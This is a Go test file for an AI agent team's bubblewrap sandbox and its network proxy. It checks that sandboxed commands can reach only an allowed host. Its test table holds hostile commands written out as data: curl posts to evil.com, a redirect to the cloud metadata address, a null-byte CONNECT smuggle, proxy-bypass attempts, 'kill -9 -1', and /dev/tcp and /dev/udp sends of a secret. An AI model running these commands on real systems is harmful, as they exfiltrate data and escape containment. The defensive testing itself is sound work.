package proxy_test

import (
	"bytes"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"agentteam/pkg/execenv/sandbox"
	"agentteam/pkg/team"
	"agentteam/pkg/teamtest/testenv"
	"agentteam/pkg/tool/command"
)

// Programs inside of bubblewrap reach the hosts that are listed, by the variables alone, and
// nothing else in any way; why not is in their output.
func TestInside(t *testing.T) {
	t.Parallel()
	s, err := sandbox.Find(t.Context(), team.Bubblewrap)
	testenv.Need(t, err)
	testenv.Program(t, "curl")
	r := start(t, team.Network{"a.org"})
	secure := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) { io.WriteString(w, "secure "+req.Host) }))
	t.Cleanup(secure.Close)
	plain := page(t, func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == "/away" {
			http.Redirect(w, req, "http://169.254.169.254/latest/", http.StatusFound)
		}
		n, _ := io.Copy(io.Discard, req.Body)
		w.Write(bytes.Repeat([]byte("x"), int(n)))
	})
	r.name("a.org", public)
	r.serve(public+":443", secure)
	r.serve(public+":80", plain)
	dir := t.TempDir()
	box := sandbox.Box{Dir: filepath.Join(dir, "work"), Home: filepath.Join(dir, "home"), Proxy: r.proxy.Serve}
	if err := os.Mkdir(box.Dir, 0o700); err != nil {
		t.Fatal(err)
	}
	runner, err := s.Runner(box)
	if err != nil {
		t.Fatal(err)
	}
	outside := plain.Listener.Addr().String()
	for _, tt := range []struct {
		script string
		ok     bool
		want   string // in the output
	}{
		{`curl -sSk https://a.org/`, true, "secure a.org"},
		{`head -c 3000000 /dev/zero | curl -sS --data-binary @- http://a.org/ | wc -c`, true, "3000000"},
		{`kill -9 -1`, false, ""},
		{`curl -sSk https://a.org/`, true, "secure a.org"},
		{`curl -sSk https://evil.com/`, false, `network: evil.com is refused: allowed are a.org; a person can add it to "network" of the role or the team`},
		{`head -c 3000000 /dev/zero | curl -sS --data-binary @- http://evil.com/`, true, "network: evil.com is refused"},
		{`for i in 1 2; do curl -s http://evil.com/ > /dev/null; done`, true, "network: evil.com is refused"},
		{`curl -sSL http://a.org/away`, true, "network: 169.254.169.254 is refused"},
		{`curl -sSk https://a.org:4222/`, false, "network: a.org:4222 is refused: of listed hosts ports 80 and 443 are allowed"},
		{`printf 'CONNECT evil.com\0.a.org:443 HTTP/1.1\r\n\r\n' | curl -s --max-time 10 telnet://127.0.0.1:3128`, true, "400 Bad Request"},
		{`curl -sS --noproxy '*' http://` + outside, false, "onnect"},
		{`curl -sS --noproxy '*' http://` + public, false, "onnect"},
		{`curl -sS --noproxy '*' --unix-socket ` + r.socket + ` http://a.org/`, false, "onnect"},
		{`unset HTTPS_PROXY https_proxy; curl -sSk https://a.org/`, false, "resolve"},
		{`getent hosts a.org`, false, ""},
		{`echo secret > /dev/udp/192.0.2.1/53`, false, "unreachable"},
		{`echo secret > /dev/tcp/192.0.2.1/53`, false, "unreachable"},
	} {
		var output bytes.Buffer
		exit, err := runner.Run(t.Context(), command.Command{Args: []string{"bash", "-c", tt.script}, Dir: box.Dir, Output: &output})
		if err != nil {
			t.Fatal(err)
		}
		if (exit.Code == 0) != tt.ok || !strings.Contains(output.String(), tt.want) {
			t.Errorf("%s: %+v: %s", tt.script, exit, &output)
		}
		if strings.HasPrefix(tt.script, "for ") && strings.Count(output.String(), "network: ") != 1 {
			t.Errorf("%s: the reason does not stand there once: %s", tt.script, &output)
		}
	}
	looked, dialled := r.seen()
	for _, name := range looked {
		if name != "a.org." {
			t.Errorf("looked up %s", name)
		}
	}
	for _, at := range dialled {
		if at != public+":80" && at != public+":443" {
			t.Errorf("dialled %s", at)
		}
	}
}
